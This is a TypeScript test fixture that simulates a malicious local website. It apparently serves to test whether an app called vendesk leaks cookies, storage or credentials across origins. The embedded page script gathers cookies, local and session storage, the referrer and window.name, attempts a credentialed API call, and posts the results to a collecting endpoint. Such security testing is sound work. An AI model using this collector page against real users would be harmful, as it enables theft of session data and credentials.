/**
 * Another web site on this computer: an HTTP server on its own 127.0.0.1 port, as any local
 * development server or a page a malicious program serves would be. It records every request it
 * receives (all headers: cookies, Referer, …) and serves a page that reports everything a script of
 * that origin can read (document.cookie, its storage, document.referrer, window.name) and what it
 * gets when it calls vendesk's API itself.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export interface RecordedRequest {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
}

export interface PageReport {
  cookie: string;
  localStorage: Record<string, string>;
  sessionStorage: Record<string, string>;
  referrer: string;
  windowName: string;
  location: string;
  /** What the page got when it called vendesk's API with credentials included. */
  apiCall: string;
}

export interface OtherLocalSite {
  origin: string;
  requests: RecordedRequest[];
  reports: PageReport[];
  /** The page that reports what it can read; it calls the vendesk API at `target`. */
  pageUrl(target: string): string;
  /** Every text this site saw or could read, in pieces an attacker would try as a credential. */
  everythingSeen(): string[];
  close(): Promise<void>;
}

const PAGE = `<!doctype html><meta charset="utf-8"><title>another local site</title><body>another local site<script>
(async () => {
  const dump = (s) => { const o = {}; for (let i = 0; i < s.length; i++) { const k = s.key(i); o[k] = s.getItem(k); } return o; };
  const target = new URLSearchParams(location.search).get('target');
  let apiCall = '';
  try {
    const r = await fetch(target + '/api/app.info', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' });
    apiCall = r.status + ' ' + (await r.text());
  } catch (e) { apiCall = 'refused: ' + e; }
  const report = { cookie: document.cookie, localStorage: dump(localStorage), sessionStorage: dump(sessionStorage), referrer: document.referrer, windowName: window.name, location: location.href, apiCall };
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
  document.body.dataset.reported = 'yes';
})();
</script>`;

export async function startOtherLocalSite(): Promise<OtherLocalSite> {
  const requests: RecordedRequest[] = [];
  const reports: PageReport[] = [];
  const server = http.createServer((req, res) => {
    requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (c: string) => (body += c));
      req.on('end', () => {
        reports.push(JSON.parse(body) as PageReport);
        res.end('ok');
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(PAGE);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    requests,
    reports,
    pageUrl: (target) => `${origin}/?target=${encodeURIComponent(target)}`,
    everythingSeen() {
      const seen = new Set<string>();
      const add = (text: string | undefined) => {
        if (!text) return;
        seen.add(text);
        // Cookie headers and document.cookie: each pair, and each value alone.
        for (const part of text.split(/[;,&?#\s]+/)) {
          if (!part) continue;
          seen.add(part);
          const eq = part.indexOf('=');
          if (eq >= 0) seen.add(part.slice(eq + 1));
        }
      };
      for (const r of requests) {
        add(r.url);
        for (const value of Object.values(r.headers)) for (const v of [value].flat()) add(v);
      }
      for (const r of reports) {
        add(r.cookie);
        add(r.referrer);
        add(r.windowName);
        add(r.location);
        for (const v of [...Object.values(r.localStorage), ...Object.values(r.sessionStorage)]) add(v);
        for (const k of [...Object.keys(r.localStorage), ...Object.keys(r.sessionStorage)]) add(k);
      }
      return [...seen];
    },
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
